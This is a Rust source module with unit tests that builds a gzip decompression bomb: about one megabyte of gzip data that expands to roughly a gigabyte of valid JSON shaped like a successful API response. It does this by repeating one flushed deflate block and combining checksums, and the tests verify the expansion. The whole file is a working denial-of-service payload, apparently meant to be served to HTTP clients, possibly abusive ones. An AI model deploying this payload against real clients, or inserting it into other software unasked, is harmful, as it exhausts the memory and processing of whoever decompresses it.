//! A gzip bomb: a megabyte that expands to a gigabyte of valid JSON.
//!
//! Compressing a gigabyte takes seconds. But a fully flushed deflate block refers to nothing before
//! it and ends on a byte, so one compressed megabyte of spaces, repeated a thousand times, is a
//! deflate stream as well; and checksums can be combined.

use std::sync::LazyLock;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

const BLOCK_BYTES: usize = 1 << 20;
const BLOCK_COUNT: usize = 1 << 10;
/// RFC 1952: magic, deflate, no flags, no time, slowest compression, unknown system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
/// The last deflate block: final, fixed codes, empty.
const LAST_BLOCK: [u8; 2] = [0x03, 0x00];

/// The bomb, built once.
pub(super) fn bytes() -> Bytes {
    static BOMB: LazyLock<Bytes> = LazyLock::new(|| build(BLOCK_COUNT));
    BOMB.clone()
}

fn build(blocks: usize) -> Bytes {
    let beginning: &[u8] = br#"{"code":200,"status":"success","message":"","data":["#;
    let spaces = vec![b' '; BLOCK_BYTES];
    let mut bomb = HEADER.to_vec();
    let mut crc = Crc::new();
    let mut size = 0_u32;
    let mut add = |content: &[u8], times: usize| {
        let block = compress(content);
        let mut block_crc = Crc::new();
        block_crc.update(content);
        for _ in 0..times {
            bomb.extend_from_slice(&block);
            crc.combine(&block_crc);
            // Gzip counts the size modulo 2^32.
            size = size.wrapping_add(block_crc.amount());
        }
    };
    add(beginning, 1);
    add(&spaces, blocks);
    add(b"]}", 1);
    bomb.extend_from_slice(&LAST_BLOCK);
    bomb.extend_from_slice(&crc.sum().to_le_bytes());
    bomb.extend_from_slice(&size.to_le_bytes());
    bomb.into()
}

/// One fully flushed deflate block.
fn compress(content: &[u8]) -> Vec<u8> {
    let mut compress = Compress::new(Compression::best(), false);
    // The worst case is a few bytes more than the content.
    let mut block = Vec::with_capacity(content.len() + 1024);
    match compress.compress_vec(content, &mut block, FlushCompress::Full) {
        Ok(_) => block,
        // Unreachable: only decompression can meet bad data.
        Err(_) => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    #[test]
    fn bomb_is_a_small_gzip_file_of_large_valid_json() {
        let bomb = build(16);
        assert!(bomb.len() < 16 << 11, "{}", bomb.len());
        let mut json = Vec::new();
        // The decoder checks the checksum and the size at the end.
        let mut decoder = flate2::read::GzDecoder::new(&bomb[..]);
        decoder.read_to_end(&mut json).unwrap();
        assert!(json.len() > 16 << 20, "{}", json.len());
        let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
        assert_eq!(json["code"], 200);
    }

    #[test]
    fn bomb_expands_to_a_gigabyte() {
        let bomb = bytes();
        assert!(bomb.len() < 2 << 20, "{}", bomb.len());
        let size: [u8; 4] = bomb[bomb.len() - 4..].try_into().unwrap();
        assert!(u32::from_le_bytes(size) > 1 << 30);
    }
}
